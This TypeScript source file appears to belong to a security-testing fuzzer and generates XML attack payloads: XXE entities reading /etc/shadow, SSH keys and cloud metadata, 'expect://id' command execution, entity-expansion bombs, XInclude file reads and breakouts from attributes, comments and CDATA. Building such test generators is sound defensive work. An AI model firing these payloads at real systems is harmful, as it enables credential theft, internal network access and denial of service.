import type { Random } from '../../lib/random.ts';
import type { Grammar } from '../contract.ts';
import { aName, aNumber, aText, type Maker, oneOf } from './words.ts';

/** Attacks on parsers of XML: entities, external types, inclusions, bombs. */
export const xml: Grammar = {
  language: 'xml',
  attack(random, _oracle, context) {
    const made = (kind: string, value: string) => ({
      kind: `${kind}/${context.name}`,
      values: [value],
    });
    const wrap = wraps[context.name];
    if (wrap !== undefined) return made('inclusion', wrap(random, inclusion(random)));
    if (context.name === 'entity value') return made('entity value', entityValue(random));
    const root = rootOf(random, context.name);
    const kinds = context.name.includes('huge')
      ? [...documents, bomb, bomb, bomb]
      : context.name.includes('inclusions')
        ? [...documents, included, included]
        : documents;
    const [kind, value] = random.pick(kinds)(random, root);
    if (!context.name.includes('base64')) return made(kind, value);
    const encoding = random.pick(['utf8', 'utf8', 'utf16le'] as const);
    const bytes = Buffer.from(`${encoding === 'utf8' ? '' : '\ufeff'}${value}`, encoding);
    return made(`${kind}, ${encoding}`, bytes.toString('base64'));
  },
};

interface Root {
  readonly name: string;
  /** Attributes, with a space before them. */
  readonly attributes: string;
}

function rootOf(random: Random, context: string): Root {
  if (context === 'SVG') return { name: 'svg', attributes: ' xmlns="http://www.w3.org/2000/svg"' };
  if (context !== 'SOAP envelope') return { name: `${aName(random)}x`, attributes: '' };
  const prefix = random.pick(['s', 'soap', 'soapenv', 'SOAP-ENV']);
  const namespace = 'http://schemas.xmlsoap.org/soap/envelope/';
  return { name: `${prefix}:Envelope`, attributes: ` xmlns:${prefix}="${namespace}"` };
}

const host: Maker = oneOf(
  (random) => `${aName(random)}.test`,
  () => '127.0.0.1',
  () => 'localhost:8080',
  () => '169.254.169.254',
  (random) => `10.0.${random.below(256)}.${random.below(256)}`,
);

const file: Maker = oneOf(
  () => '/etc/passwd',
  () => '/etc/hosts',
  () => '/etc/shadow',
  () => '/proc/self/environ',
  (random) => `/var/www/${aName(random)}.php`,
  (random) => `/home/${aName(random)}/.ssh/id_rsa`,
  () => '/c:/windows/win.ini',
);

/** What is fetched. */
const url: Maker = oneOf(
  (random) => `file://${file(random)}`,
  (random) => `file://${file(random)}`,
  file,
  (random) => `..${file(random)}`,
  (random) =>
    `${random.pick(['http', 'https', 'ftp', 'gopher'])}://${host(random)}/${aName(random)}`,
  (random) => `http://${host(random)}/latest/meta-data/`,
  (random) => `php://filter/convert.base64-encode/resource=${file(random)}`,
  () => 'expect://id',
  (random) => `jar:http://${host(random)}/${aName(random)}.jar!/${aName(random)}`,
  (random) => `netdoc:${file(random)}`,
  (random) => `${aName(random)}.dtd`,
);

const quoted = (random: Random, text: string): string => {
  const mark = random.pick(['"', "'"]);
  return mark + text + mark;
};

/** Where an entity or a type comes from. */
const external: Maker = (random) =>
  random.chance(75)
    ? `SYSTEM ${quoted(random, url(random))}`
    : `PUBLIC ${quoted(random, aText(random))} ${quoted(random, url(random))}`;

const declaration: Maker = oneOf(
  () => '',
  () => '<?xml version="1.0"?>',
  () => '<?xml version="1.0" encoding="UTF-8"?>\n',
  () => "<?xml version='1.0' standalone='no'?>",
);

type Document = (random: Random, root: Root) => [kind: string, value: string];

const element = ({ name, attributes }: Root, content: string): string =>
  `<${name}${attributes}>${content}</${name}>`;

const documents: readonly Document[] = [
  (random, root) => {
    const entity = aName(random);
    const type = `<!DOCTYPE ${root.name} [<!ENTITY ${entity} ${external(random)}>]>`;
    return ['entity', declaration(random) + type + element(root, `<a>&${entity};</a>`)];
  },
  (random, root) => {
    const entity = aName(random);
    const any = `<!ELEMENT ${root.name} ANY>`;
    const type = `<!DOCTYPE ${root.name} [\n  ${any}\n  <!ENTITY ${entity} ${external(random)}> ]>\n`;
    return ['entity, declared element', declaration(random) + type + element(root, `&${entity};`)];
  },
  (random, root) => {
    const type = `<!DOCTYPE ${root.name} ${external(random)}>`;
    return ['external type', declaration(random) + type + element(root, aText(random))];
  },
  (random, root) => {
    const entity = aName(random);
    const type = `<!DOCTYPE ${root.name} [<!ENTITY % ${entity} ${external(random)}> %${entity};]>`;
    return ['parameter entity', declaration(random) + type + element(root, aText(random))];
  },
  (random, root) => {
    const [outer, inner] = [aName(random), aName(random)];
    const text = `&#${random.pick(['37', 'x25'])}; ${inner} SYSTEM '${url(random)}'>`;
    const type = `<!DOCTYPE ${root.name} [<!ENTITY % ${outer}a "<!ENTITY ${text}"> %${outer}a; %${inner};]>`;
    return ['nested parameter entity', declaration(random) + type + element(root, '')];
  },
  (random, root) => {
    const entity = aName(random);
    const inner = `${entity}_`;
    const type = `<!DOCTYPE ${root.name} [<!ENTITY ${inner} ${external(random)}><!ENTITY ${entity} "&${inner};">]>`;
    return ['entity in an entity', declaration(random) + type + element(root, `&${entity};`)];
  },
];

/** Entities that hold each other many times, or a long one that is used often. */
const bomb: Document = (random, root) => {
  const name = `${aName(random)}_`;
  const each = 8 + random.below(5);
  const levels = 6;
  const entities = Array.from({ length: levels }, (_, level) => {
    const text = level === 0 ? aName(random) + aName(random) : `&${name}${level - 1};`.repeat(each);
    return `<!ENTITY ${name}${level} "${text}">`;
  });
  const type = `<!DOCTYPE ${root.name} [${entities.join(random.pick(['', '\n', ' ']))}]>`;
  const uses = `&${name}${levels - 1};`.repeat(8);
  return ['bomb', declaration(random) + type + element(root, uses)];
};

const namespace = 'http://www.w3.org/2001/XInclude';

/** A file as text, by an element of another namespace. */
const inclusion: Maker = (random) => {
  const prefix = random.pick(['xi', 'x', aName(random)]);
  const outer = `${aName(random)}_`;
  const path = random.pick(['/etc/passwd', '/etc/hosts', '/etc/os-release', '/etc/group']);
  const href = `href=${quoted(random, random.pick(['file://', '']) + path)}`;
  const attributes = random.shuffled([`parse=${quoted(random, 'text')}`, href]).join(' ');
  const declared = `xmlns:${prefix}=${quoted(random, namespace)}`;
  return random.pick([
    `<${prefix}:include ${declared} ${attributes}/>`,
    `<${outer} ${declared}><${prefix}:include ${attributes}/></${outer}>`,
    `<include xmlns="${namespace}" ${attributes}/>`,
    `<${prefix}:include ${attributes} ${declared}><${prefix}:fallback/></${prefix}:include>`,
  ]);
};

const included: Document = (random, root) => [
  'inclusion',
  declaration(random) + element(root, aText(random) + inclusion(random)),
];

/** Ways out of what stands around a piece of a document, and in again. */
const wraps: Readonly<Record<string, (random: Random, attack: string) => string>> = {
  'member of SOAP': (random, attack) =>
    random.pick([attack, `<order><note>${attack}</note></order>`, aText(random) + attack]),
  'text of an element': (random, attack) =>
    random.pick([attack, `${aText(random)}${attack}`, `</note><note>${attack}`]),
  attribute: (random, attack) =>
    `${aText(random)}" count="2"/>${attack}<${aName(random)} name="${aText(random)}`,
  'attribute, single quotes': (random, attack) =>
    random.pick([
      `${aName(random)}'>${attack}</item><item name='${aText(random)}`,
      `'/>${attack}<item name='${aNumber(random)}`,
    ]),
  comment: (random, attack) => `${aText(random)} -->${attack}<!-- ${aText(random)}`,
  CDATA: (random, attack) => `${aText(random)}]]>${attack}<![CDATA[${aText(random)}`,
};

/** Out of the value of an entity that the server declares. */
const entityValue: Maker = (random) => {
  const entity = `${aName(random)}_`;
  const parameter = `<!ENTITY % ${entity} ${external(random).replaceAll('"', "'")}>`;
  const rest = `<!ENTITY ${entity}x "${aText(random)}`;
  return `${aText(random)}">${parameter}%${entity};${rest}`;
};
